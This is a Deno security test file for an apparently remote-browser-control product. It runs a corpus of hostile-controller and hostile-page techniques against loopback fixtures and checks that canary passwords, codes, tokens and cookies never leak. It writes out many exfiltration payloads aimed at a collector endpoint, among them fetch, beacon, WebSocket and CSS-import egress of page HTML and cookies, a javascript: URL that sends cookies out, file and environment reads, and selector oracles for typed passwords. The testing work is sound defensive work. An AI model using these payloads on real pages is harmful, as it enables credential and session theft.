/**
 * The attack corpus: a hostile developer (a controller with a valid API key),
 * hostile pages and a hostile network listener try every technique we know
 * to get a secret off the user's device. Each step is one technique, run
 * against real sites on loopback (`fixtures/attack_site.ts`) with canary
 * values: a password, a one-time code typed box by box, an access and a
 * refresh token the site answers in JSON, an HttpOnly session cookie, and a
 * page only the device's own network can reach.
 *
 * Then everything is scanned for the canaries, in every spelling and decoded
 * from base64 and character codes: what the controller's code received,
 * telemetry, the SSE stream from the start, every KV entry and every KV write
 * made during the run, the raw bytes of the KV file after the server closed,
 * the server's console, the device's log, and every request that reached the
 * collector (the attacker's listener). Zero.
 *
 * Then the teeth: with the `origins` or `secrets` rule switched off, the
 * attacks those rules stop succeed.
 */
import assert from "node:assert/strict";
import { Passage } from "@passage/connect";
import type { Browser as Controller, TelemetryEvent } from "@passage/connect";
import type { Browser as Chromium } from "puppeteer-core";
import {
  type DeviceHandle,
  type DeviceStatus,
  launchChromium,
  startDevice,
} from "../device/mod.ts";
import { disableRuleForTests, restoreRulesForTests } from "../device/_rules.ts";
import { createApiKey, revokeApiKey } from "../lib/api_keys.ts";
import { disableServerRuleForTests, restoreServerRulesForTests } from "../lib/redaction.ts";
import {
  captureConsole,
  darkPixels,
  decodings,
  dumpKv,
  Evidence,
  findCanaries,
  humanTurns,
  recordKvWrites,
  recordSse,
  within,
} from "./_evidence.ts";
import { startServer, type TestServer } from "./_harness.ts";
import {
  type Canaries,
  type Collector,
  newCanaries,
  type PrivateSite,
  type Site,
  startCollector,
  startPrivateSite,
  startProvider,
} from "./fixtures/attack_site.ts";

/** One controller and one device on a Sessions API session. */
interface Run {
  controller: Controller;
  device: DeviceHandle;
  statuses: DeviceStatus[];
  turns: ReturnType<typeof humanTurns>;
  telemetry: TelemetryEvent[];
  sessionId: string;
  close(): Promise<void>;
}

interface World {
  server: TestServer;
  chromium: Chromium;
  evidence: Evidence;
  canaries: Canaries;
  provider: Site;
  collector: Collector;
  privateSite: PrivateSite;
}

async function openRun(
  w: World,
  allowedOrigins: string[] | undefined,
  label: string,
): Promise<Run> {
  const passage = new Passage({ apiKey: w.server.apiKey, baseUrl: w.server.url });
  const session = await passage.sessions.create(allowedOrigins ? { allowedOrigins } : undefined);
  const sse = recordSse(w.server, session.id, w.evidence, `${label}: SSE stream`);
  const controller = await session.connect();
  const telemetry: TelemetryEvent[] = [];
  controller.onTelemetry((event) => {
    telemetry.push(event);
    w.evidence.add(`${label}: telemetry`, JSON.stringify(event));
  });
  const turns = humanTurns();
  const statuses: DeviceStatus[] = [];
  const device = await startDevice({
    server: w.server.url,
    claimCode: session.claimCode!,
    browser: w.chromium,
    // the provider and the attacker's listener are on loopback here: the
    // sandbox, not the private-network rule, must be what stops egress
    allowPrivateOrigins: [w.provider.url, w.collector.url],
    onStatus: (status) => {
      if (status) statuses.push(status);
      turns.onStatus(status);
    },
    log: (line) => w.evidence.add(`${label}: device log`, line),
  });
  return {
    controller,
    device,
    statuses,
    turns,
    telemetry,
    sessionId: session.id,
    async close() {
      await controller.close();
      await passage.sessions.end(session.id).catch(() => {});
      await device.close();
      sse.stop();
      await sse.done;
    },
  };
}

/** Runs a controller call; what it answered (or its error) is evidence, decoded too. */
async function attempt<T>(
  w: World,
  what: string,
  run: () => Promise<T>,
): Promise<{ value?: T; error?: string }> {
  try {
    const value = await run();
    for (const text of decodings(value)) w.evidence.add(`controller got (${what})`, text);
    return { value };
  } catch (error) {
    for (const text of decodings(String(error))) w.evidence.add(`controller got (${what})`, text);
    return { error: String(error) };
  }
}

/** The canaries found in `value`, decoded. */
function leaks(w: World, value: unknown): string[] {
  const evidence = new Evidence();
  for (const text of decodings(value)) evidence.add("answer", text);
  return findCanaries(evidence, canaryList(w.canaries));
}

function canaryList(c: Canaries) {
  return [
    { name: "password", value: c.password },
    { name: "one-time code", value: c.code },
    { name: "access token", value: c.accessToken },
    { name: "refresh token", value: c.refreshToken },
    { name: "session cookie", value: c.session },
    { name: "private page", value: c.privateText },
  ];
}

/** The human signs in on the provider's single-page login; the controller captures the answer. */
async function spaLogin(w: World, run: Run) {
  const { controller, device, turns } = run;
  await controller.captureResponses({ urlContains: "/api/" });
  await controller.navigate({ url: `${w.provider.url}/spa-login` });
  const yielded = controller.yieldToUser({
    status: { heading: "Log in to T-Mobile" },
    conditions: [{ type: "networkRequest", urlContains: "/api/spa-login", captureBody: true }],
    timeout: 60_000,
  });
  await turns.nth(1);
  await device.page.type("#user", "ada");
  await device.page.type("#pass", w.canaries.password);
  await device.page.click("#go");
  const result = await yielded;
  await controller.waitForSelector({ selector: "body[data-done]", state: "attached" });
  return result;
}

Deno.test("attack corpus: a hostile controller, page or listener gets no secret off the device", async (t) => {
  const canaries = newCanaries();
  const dir = await Deno.makeTempDir({ prefix: "passage-attacks-" });
  const kvPath = `${dir}/passage.kv3`;
  const evidence = new Evidence();
  const restoreConsole = captureConsole(evidence);
  const collector = await startCollector();
  const provider = await startProvider(canaries, collector.url);
  const privateSite = await startPrivateSite(canaries);
  const server = await startServer({ kvPath });
  const stopRecording = recordKvWrites(server.kv, evidence);
  const chromium = await launchChromium();
  const w: World = { server, chromium, evidence, canaries, provider, collector, privateSite };
  let serverClosed = false;
  try {
    const run = await openRun(w, [provider.url], "session");
    const { controller, device } = run;
    try {
      await t.step("1. tokens in a login's JSON answer never reach the controller", async () => {
        const result = await spaLogin(w, run);
        const body = result.networkCapture?.responseBody ?? "";
        assert.deepEqual(leaks(w, body), []);
        assert.equal(JSON.parse(body).user.name, "Ada Lovelace", "the data itself comes through");
        assert.match(body, /\[REDACTED\]/);
        const captured = await controller.readCapturedResponses({ urlContains: "/api/" });
        assert.ok(captured.length >= 2, "the login and /api/me were captured");
        assert.deepEqual(leaks(w, captured), []);
        evidence.add("captured responses", JSON.stringify(captured));
      });

      await t.step("2. the page's own copies come back in no encoding", async () => {
        for (
          const expression of [
            "btoa(document.getElementById('kept').dataset.pw)",
            "btoa(document.getElementById('hidden-pw').value)",
            "btoa(document.getElementById('hidden-pw').getAttribute('value'))",
            "btoa(document.getElementById('kept').dataset.token)",
            "Array.from(document.getElementById('welcome').textContent, (c) => c.charCodeAt(0))",
            "btoa(localStorage.getItem('auth'))",
            "btoa(sessionStorage.getItem('refresh'))",
            "btoa(document.cookie)",
            "document.documentElement.outerHTML",
            "JSON.stringify(performance.getEntries())",
          ]
        ) {
          const answer = await attempt(w, expression, () => controller.evaluate({ expression }));
          assert.deepEqual(leaks(w, answer), [], expression);
        }
      });

      await t.step("3. evaluate's sandbox reaches no listener, by any API", async () => {
        const out = `${collector.url}/egress`;
        const html = "document.documentElement.outerHTML";
        const vectors = [
          `fetch('${out}/fetch?' + encodeURIComponent(${html}))`,
          `new WebSocket('${out.replace("http", "ws")}/ws')`,
          `navigator.sendBeacon('${out}/beacon', ${html})`,
          `new FontFace('x', 'url(${out}/font)').load()`,
          `document.styleSheets[0]?.insertRule("@import url('${out}/import')")`,
          `(() => { const s = new CSSStyleSheet(); s.replaceSync("body{background:url('${out}/adopted')}"); document.adoptedStyleSheets = [s]; })()`,
          `new Audio('${out}/audio').play()`,
          `import('${out}/module.js')`,
          `CSS.paintWorklet.addModule('${out}/paint.js')`,
          `new AudioContext().audioWorklet.addModule('${out}/audio.js')`,
          `navigation.navigate('${out}/navigate')`,
          `new webkitRTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: 'x', credential: 'y' }] })`,
          `new RTCPeerConnection()`,
          `(() => { const i = new Image(); i.src = '${out}/image'; return i.src; })()`,
          `new Worker('${out}/worker.js')`,
          `Deno.connect({ hostname: '127.0.0.1', port: ${new URL(collector.url).port} })`,
          `location.href = 'javascript:fetch("${out}/javascript-url?" + document.cookie)'`,
          `(() => { const a = document.createElement('a'); a.href = '${out}/click'; document.body.append(a); a.click(); })()`,
          `open('${out}/open')`,
        ];
        for (const expression of vectors) {
          await attempt(w, expression, () => controller.evaluate({ expression }));
        }
        // a fence: a request the page itself makes after every attempt has answered
        await device.page.evaluate(
          (url) => fetch(url, { mode: "no-cors" }),
          `${collector.url}/fence`,
        );
        await within(collector.seen("/fence"), 10_000, "the fence request");
        assert.deepEqual(collector.received.filter((line) => line.includes("/egress")), []);
        assert.equal(await device.page.evaluate(() => location.protocol), "http:");
      });

      await t.step("4. URLs carry no credential anywhere a controller reads them", async () => {
        const href = await controller.getAttribute({ selector: "#cb", name: "href" });
        assert.deepEqual(leaks(w, href), []);
        assert.match(href ?? "", /code=(REDACTED|\[REDACTED\]|•+)&/);
        for (
          const value of [
            await controller.url(),
            await controller.innerHTML({ selector: "#kept" }),
            await controller.evaluate({ expression: "location.href" }),
            await controller.evaluate({
              expression: "[...document.querySelectorAll('a')].map((a) => a.getAttribute('href'))",
            }),
          ]
        ) {
          assert.deepEqual(leaks(w, value), [], JSON.stringify(value));
        }
      });

      await t.step("5. telemetry carries no bearer token, and no token parameter", async () => {
        const consoles = await within(
          (async () => {
            for (;;) {
              const lines = run.telemetry.filter((e) => e.kind === "console");
              if (lines.length >= 2) return lines;
              await new Promise((r) => setTimeout(r, 20));
            }
          })(),
          10_000,
          "the page's console lines",
        );
        assert.deepEqual(leaks(w, run.telemetry), []);
        assert.ok(
          consoles.some((e) =>
            e.kind === "console" && /Authorization: (Bearer )?\[REDACTED\]/.test(e.text)
          ),
          JSON.stringify(consoles),
        );
      });

      await t.step("6. the fetch command scrubs an echoed HttpOnly session id", async () => {
        const echoed = await controller.fetch({ url: "/api/echo" });
        assert.equal(echoed.status, 200);
        assert.deepEqual(leaks(w, echoed), []);
        assert.equal(JSON.parse(echoed.body).plan, "Unlimited");
        const other = await attempt(
          w,
          "fetch to another origin",
          () => controller.fetch({ url: `${collector.url}/egress/fetch-command` }),
        );
        assert.match(String(other.error), /refused/);
      });

      await t.step("7. storage tokens the page shows as text are scrubbed", async () => {
        const text = await controller.textContent({ selector: "#welcome" });
        assert.deepEqual(leaks(w, text), []);
        assert.match(text, /Welcome back/);
      });

      await t.step("8. credential fields' values are never in the copy", async () => {
        const values = await controller.evaluate({
          expression: "[...document.querySelectorAll('input')].map((i) => i.getAttribute('value'))",
        });
        assert.deepEqual(leaks(w, values), []);
        const refused = await attempt(
          w,
          "getAttribute value of a hidden field",
          () => controller.getAttribute({ selector: "#hidden-pw", name: "value" }),
        );
        assert.match(String(refused.error), /refused/);
      });

      await t.step("9. a shadow-DOM login: values never come back, and are emptied", async () => {
        await controller.navigate({ url: `${provider.url}/shadow-login` });
        const yielded = controller.yieldToUser({
          conditions: [{ type: "selector", selector: "body[data-human-done]" }],
          timeout: 60_000,
        });
        await run.turns.nth(2);
        const open = await device.page.evaluateHandle(() =>
          document.getElementById("open")!.shadowRoot!.querySelector(".pass")!
        );
        const closed = await device.page.evaluateHandle(() =>
          (globalThis as unknown as { closedRoot: ShadowRoot }).closedRoot.querySelector(".pass")!
        );
        await open.asElement()!.type(`${canaries.password}-open`);
        await closed.asElement()!.type(`${canaries.password}-closed`);
        const shot = await controller.screenshot({ format: "jpeg" }).catch((e) => String(e));
        evidence.add("screenshot during yield", JSON.stringify(shot).slice(0, 200));
        await device.page.evaluate(() => document.body.dataset.humanDone = "1");
        await yielded;
        assert.equal(await open.evaluate((e) => (e as HTMLInputElement).value), "");
        assert.equal(await closed.evaluate((e) => (e as HTMLInputElement).value), "");
        for (
          const expression of [
            "document.documentElement.outerHTML",
            "document.getElementById('open').innerHTML",
          ]
        ) {
          const answer = await attempt(w, expression, () => controller.evaluate({ expression }));
          assert.deepEqual(leaks(w, answer), []);
        }
        await open.dispose();
        await closed.dispose();
      });

      await t.step(
        "10. a code typed box by box is one secret, wherever the page copies it",
        async () => {
          await controller.navigate({ url: `${provider.url}/code-boxes` });
          const yielded = controller.yieldToUser({
            conditions: [{ type: "selector", selector: "body[data-done]" }],
            timeout: 60_000,
          });
          await run.turns.nth(3);
          for (const [i, digit] of [...canaries.code].entries()) {
            await device.page.type(`#b${i}`, digit);
          }
          await yielded;
          for (
            const expression of [
              "document.getElementById('otp').getAttribute('value')",
              "document.getElementById('f').innerHTML",
              "window.assembled",
              "[...document.querySelectorAll('.box')].map((b) => b.getAttribute('value')).join('')",
            ]
          ) {
            const answer = await attempt(w, expression, () => controller.evaluate({ expression }));
            assert.deepEqual(leaks(w, answer), [], expression);
          }
          const html = await controller.innerHTML({ selector: "body" });
          assert.deepEqual(leaks(w, html), []);
        },
      );

      await t.step(
        "11. phishing: the session cannot open an origin it does not allow",
        async () => {
          const lookAlike = await attempt(
            w,
            "navigate to a look-alike",
            () => controller.navigate({ url: `${collector.url}/look-alike` }),
          );
          assert.match(String(lookAlike.error), /refused/);
          assert.equal(new URL(device.page.url()).origin, provider.url, "the human stays put");
          const redirect = await attempt(
            w,
            "a redirect out",
            () => controller.navigate({ url: `${provider.url}/redirect-out` }),
          );
          assert.match(String(redirect.error), /refused/);
          // a refused redirect leaves an error page: back to the provider
          await controller.navigate({ url: `${provider.url}/` });
          assert.deepEqual(
            collector.received.filter((l) => /look-alike|redirected/.test(l)),
            [],
          );
        },
      );

      await t.step(
        "12. the human is shown the page's real origin, not the controller's words",
        async () => {
          const yielded = controller.yieldToUser({
            status: { heading: "Log in at https://www.t-mobile.com" },
            conditions: [{ type: "selector", selector: "body[data-human-done]" }],
            timeout: 60_000,
          });
          await run.turns.nth(4);
          assert.equal(run.statuses.at(-1)?.origin, provider.url);
          await device.page.evaluate(() => document.body.dataset.humanDone = "1");
          await yielded;
        },
      );

      await t.step("13. the device is no proxy into its own network", async () => {
        const direct = await attempt(
          w,
          "navigate to a private page",
          () => controller.navigate({ url: `${privateSite.url}/` }),
        );
        assert.match(String(direct.error), /refused/);
        await controller.navigate({
          url: `${provider.url}/frame-private?src=${encodeURIComponent(privateSite.url)}`,
        });
        const framed = await attempt(
          w,
          "read a framed private page",
          () => controller.evaluate({ expression: "document.documentElement.outerHTML" }),
        );
        assert.deepEqual(leaks(w, framed), []);
        const frameText = await device.page.frames()[1]?.evaluate(() => document.body?.innerText)
          .catch(() => "");
        assert.ok(!String(frameText).includes(canaries.privateText), "the frame loaded");
      });

      await t.step("14. evaluate has no file, environment or process access", async () => {
        for (
          const expression of [
            "Deno.readTextFileSync('/etc/hostname')",
            "Deno.env.get('HOME')",
            "new Deno.Command('id').outputSync()",
            "Deno.permissions.requestSync({ name: 'net' }).state === 'granted' ? 'escalated' : (() => { throw new Error('denied') })()",
          ]
        ) {
          const answer = await attempt(w, expression, () => controller.evaluate({ expression }));
          assert.ok(answer.error, `${expression} answered ${JSON.stringify(answer.value)}`);
        }
      });

      await t.step("15. nothing is kept between one evaluate and the next", async () => {
        await controller.evaluate({ expression: "globalThis.stash = 'kept'" });
        assert.equal(
          await controller.evaluate({ expression: "typeof globalThis.stash" }),
          "undefined",
        );
      });

      await t.step("16. an endless evaluate times out and the device keeps serving", async () => {
        const endless = await attempt(
          w,
          "while (true)",
          () => controller.evaluate({ expression: "while (true) {}" }, { timeout: 1500 }),
        );
        assert.match(String(endless.error), /timeout/);
        assert.equal(new URL(await controller.url()).origin, provider.url);
      });

      await t.step("20. a selector is no oracle on what the user typed", async () => {
        await controller.navigate({ url: `${provider.url}/react-login` });
        const yielded = controller.yieldToUser({
          conditions: [{ type: "selector", selector: "body[data-human-done]" }],
          timeout: 60_000,
        });
        await run.turns.nth(5);
        await device.page.type("#rpw", canaries.password);
        await device.page.evaluate(() => document.body.dataset.humanDone = "1");
        await yielded;
        const probe = (prefix: string) =>
          attempt(w, `oracle ${prefix}`, () =>
            controller.textContent({
              selector: `html:has(#rpw[value^="${prefix}"]) title, h1`,
            }));
        const right = await probe(canaries.password.slice(0, 4));
        const wrong = await probe("zzzz");
        assert.deepEqual(right, wrong, "the answer depends on the typed value");
        for (
          const selector of [
            "::-p-xpath(//input[starts-with(@value, 'pw-')])",
            "::-p-text(pw-)",
            "html >>> #rpw",
          ]
        ) {
          const answer = await attempt(w, selector, () => controller.click({ selector }));
          assert.match(String(answer.error), /invalid_command/, selector);
        }
      });

      await t.step("21. a code drawn one digit per box comes back in no read", async () => {
        await controller.navigate({ url: `${provider.url}/otp-slots` });
        const yielded = controller.yieldToUser({
          conditions: [{ type: "selector", selector: "body[data-done]" }],
          timeout: 60_000,
        });
        await run.turns.nth(6);
        await device.page.type("#otp-in", canaries.code);
        await yielded;
        for (
          const read of [
            () => controller.innerHTML({ selector: "#otp" }),
            () => controller.textContent({ selector: "#otp" }),
            () =>
              controller.evaluate({
                expression:
                  "[...document.querySelectorAll('.slot')].map((s) => s.textContent).join('')",
              }),
          ]
        ) {
          const answer = await attempt(w, "the drawn code", read);
          assert.equal(answer.error, undefined, answer.error);
          assert.deepEqual(leaks(w, answer), []);
        }
      });

      await t.step("22. a page's script text is neither selectable nor readable", async () => {
        const scripts = await attempt(
          w,
          "select a script",
          // Room past the device's own 5 s wait for an element, so its answer is the one heard.
          () => controller.textContent({ selector: "script" }, { timeout: 20_000 }),
        );
        assert.match(String(scripts.error), /selector_not_found/);
        const probe = (prefix: string) =>
          attempt(w, `script oracle ${prefix}`, () =>
            controller.waitForSelector({
              selector: `script:contains("${prefix}")`,
              state: "attached",
            }, { timeout: 1500 }));
        // found or not (a timeout is not found): the same answer for the right prefix and a wrong one
        const found = async (prefix: string) => (await probe(prefix)).error === undefined;
        assert.equal(await found(canaries.session.slice(0, 6)), await found("zzzzzz"));
      });

      await t.step("23. evaluate loads no module, from anywhere", async () => {
        for (
          const expression of [
            "import('npm:left-pad')",
            "eval('imp' + 'ort(\"npm:left-pad\")')",
            "new Function('return imp' + 'ort(\"data:text/javascript,export default 1\")')()",
            "(async function () {}).constructor('return 1')()",
            "setTimeout('globalThis.ran = 1')",
            "new Worker('data:text/javascript,postMessage(1)', { type: 'module' })",
          ]
        ) {
          const answer = await attempt(w, expression, () => controller.evaluate({ expression }));
          assert.match(
            String(answer.error),
            /evaluation_failed/,
            `${expression}: ${JSON.stringify(answer)}`,
          );
        }
      });

      await t.step("24. a page's own WebSocket cannot reach the device's network", async () => {
        const port = new URL(privateSite.url).port;
        await controller.navigate({ url: `${provider.url}/ws-probe?port=${port}` });
        await controller.waitForSelector({ selector: "body[data-done]", state: "attached" });
        const text = await controller.textContent({ selector: "#ws" });
        assert.equal(text, "refused");
        assert.deepEqual(privateSite.hits.filter((h) => h.includes("websocket")), []);
      });

      await t.step(
        "25. a code the page redraws in attributes, with separators or fullwidth digits, or in pixels",
        async () => {
          await controller.navigate({ url: `${provider.url}/otp-drawn` });
          const yielded = controller.yieldToUser({
            conditions: [{ type: "selector", selector: "body[data-done]" }],
            timeout: 60_000,
          });
          await run.turns.nth(7);
          await device.page.type("#code-in", canaries.code);
          await yielded;
          for (
            const read of [
              () =>
                controller.evaluate({
                  expression:
                    "[...document.querySelectorAll('.box')].map((b) => b.dataset.char).reverse().join('')",
                }),
              () =>
                controller.evaluate({
                  expression:
                    "[...document.querySelectorAll('.box')].map((b) => b.getAttribute('aria-label'))",
                }),
              () => controller.textContent({ selector: "#dashed" }),
              () => controller.textContent({ selector: "#wide" }),
              () => controller.innerHTML({ selector: "body" }),
            ]
          ) {
            const answer = await attempt(w, "the redrawn code", read);
            assert.equal(answer.error, undefined, answer.error);
            const digits = JSON.stringify(answer.value).normalize("NFKC").replace(/\D/g, "");
            const reversed = [...canaries.code].reverse().join("");
            assert.ok(
              !digits.includes(canaries.code) && !digits.includes(reversed),
              `the code came back: ${JSON.stringify(answer.value)}`,
            );
          }
          // the pixels: the page draws the code in big black text; the screenshot hides it
          const box = await device.page.$eval("#big", (el) => {
            const r = el.getBoundingClientRect();
            return {
              x: Math.ceil(r.x),
              y: Math.ceil(r.y),
              width: Math.floor(r.width),
              height: Math.floor(r.height),
            };
          });
          const shot = await controller.screenshot({ format: "png" });
          await Deno.mkdir(".data/screenshots/attacks", { recursive: true });
          await Deno.writeFile(
            ".data/screenshots/attacks/otp-drawn.png",
            Uint8Array.from(atob(shot.data), (c) => c.charCodeAt(0)),
          );
          const dark = await darkPixels(chromium, shot.data, box);
          assert.ok(
            dark <= 5,
            `${dark} dark pixels in ${JSON.stringify(box)}: ` +
              "the drawn code shows in the screenshot",
          );
        },
      );
    } finally {
      await run.close();
    }

    await t.step(
      "17. a session open to any website still cannot reach the private network",
      async () => {
        const open = await openRun(w, undefined, "open session");
        try {
          const answer = await attempt(
            w,
            "navigate to a private page",
            () => open.controller.navigate({ url: `${privateSite.url}/` }),
          );
          assert.match(String(answer.error), /refused/);
        } finally {
          await open.close();
        }
      },
    );

    await t.step("18. a link's session takes no command from the developer", async () => {
      const passage = new Passage({ apiKey: server.apiKey, baseUrl: server.url });
      const link = await passage.links.create({
        provider: "tmobile",
        operations: [{ type: "mobileBillingStatement:read" }],
      });
      const sse = recordSse(server, link.sessionId!, evidence);
      const attempted = await attempt(w, "a command into a link's session", async () => {
        const browser = await (await passage.sessions.get(link.sessionId!)).connect();
        try {
          return await browser.navigate({ url: `${collector.url}/egress/link` }, { timeout: 5000 });
        } finally {
          await browser.close();
        }
      });
      assert.ok(attempted.error, `the command ran: ${JSON.stringify(attempted.value)}`);
      await passage.links.cancel(link.id).catch(() => {});
      sse.stop();
      await sse.done;
    });

    await t.step("19. revoking a key cuts the sockets it opened", async () => {
      const { secret, key } = await createApiKey(server.kv, { name: "doomed", mode: "test" });
      const passage = new Passage({ apiKey: secret, baseUrl: server.url });
      const session = await passage.sessions.create();
      const ws = new WebSocket(
        `${server.url.replace(/^http/, "ws")}/v1/sessions/${session.id}/socket`,
      );
      const welcomed = new Promise((resolve) =>
        ws.addEventListener("message", resolve, { once: true })
      );
      const closed = new Promise<CloseEvent>((resolve) => ws.addEventListener("close", resolve));
      ws.onopen = () => ws.send(JSON.stringify({ type: "hello", v: 1, apiKey: secret }));
      await within(welcomed, 10_000, "the welcome");
      await revokeApiKey(server.kv, key.id);
      const event = await within(closed, 15_000, "the socket's close after the revoke");
      assert.equal(event.code, 4003);
    });

    await t.step(
      "teeth: with the snapshot rule off, a selector reads the typed value bit by bit",
      async () => {
        disableRuleForTests("snapshot");
        const off = await openRun(w, [provider.url], "snapshot off");
        try {
          await off.controller.navigate({ url: `${provider.url}/react-login` });
          const yielded = off.controller.yieldToUser({
            conditions: [{ type: "selector", selector: "body[data-human-done]" }],
            timeout: 60_000,
          });
          await off.turns.nth(1);
          await off.device.page.type("#rpw", canaries.password);
          await off.device.page.evaluate(() => document.body.dataset.humanDone = "1");
          await yielded;
          const probe = (prefix: string) =>
            off.controller.textContent({
              selector: `html:has(#rpw[value^="${prefix}"]) title, h1`,
            });
          assert.notEqual(await probe(canaries.password.slice(0, 4)), await probe("zzzz"));
        } finally {
          restoreRulesForTests();
          await off.close();
        }
      },
    );

    await t.step(
      "teeth: with the origins rule off, the look-alike, the private page and its WebSocket load",
      async () => {
        disableRuleForTests("origins");
        const off = await openRun(w, [provider.url], "origins off");
        try {
          await off.controller.navigate({ url: `${collector.url}/look-alike` });
          await off.controller.navigate({ url: `${privateSite.url}/` });
          const text = await off.controller.textContent({ selector: "#secret" });
          assert.equal(text, canaries.privateText);
          // and, with no proxy below the page, its WebSocket reaches the private service
          const port = new URL(privateSite.url).port;
          await off.controller.navigate({ url: `${provider.url}/ws-probe?port=${port}` });
          await off.controller.waitForSelector({ selector: "#ws:not(:contains(pending))" });
          assert.equal(
            await off.controller.textContent({ selector: "#ws" }),
            `got ${canaries.privateText}`,
          );
        } finally {
          restoreRulesForTests();
          await off.close();
        }
      },
    );

    await t.step(
      "teeth: with the secrets rules off, the login's answer hands over the tokens",
      async () => {
        // the device's secret set, and the server's text rule behind it
        disableRuleForTests("secrets");
        disableServerRuleForTests("text");
        const off = await openRun(w, [provider.url], "secrets off");
        try {
          const result = await spaLogin(w, off);
          assert.ok(result.networkCapture?.responseBody?.includes(canaries.refreshToken));
        } finally {
          restoreRulesForTests();
          restoreServerRulesForTests();
          await off.close();
        }
      },
    );

    // the teeth's own sessions held canaries on purpose: the scan below covers
    // what the defended steps produced, so evidence gathered after them is dropped
    await t.step(
      "everything Passage held or emitted holds no canary, nor does the KV file",
      async () => {
        stopRecording();
        await dumpKv(server.kv, evidence);
        await server.close();
        serverClosed = true;
        for (const suffix of ["", "-wal", "-shm"]) {
          const bytes = await Deno.readFile(`${kvPath}${suffix}`).catch(() => null);
          if (bytes) evidence.add(`KV file${suffix}`, new TextDecoder("latin1").decode(bytes));
        }
        for (const line of collector.received) evidence.add("collector", line);
        const defended = new Evidence();
        for (const item of evidence.items) {
          if (!/origins off|secrets off|snapshot off/.test(item.where)) {
            defended.add(item.where, item.text);
          }
        }
        assert.deepEqual(findCanaries(defended, canaryList(canaries)).slice(0, 10), []);
      },
    );
  } finally {
    stopRecording();
    restoreConsole();
    if (!serverClosed) await server.close();
    await chromium.close();
    await Promise.all([collector.close(), provider.close(), privateSite.close()]);
    await Deno.remove(dir, { recursive: true }).catch(() => {});
  }
});
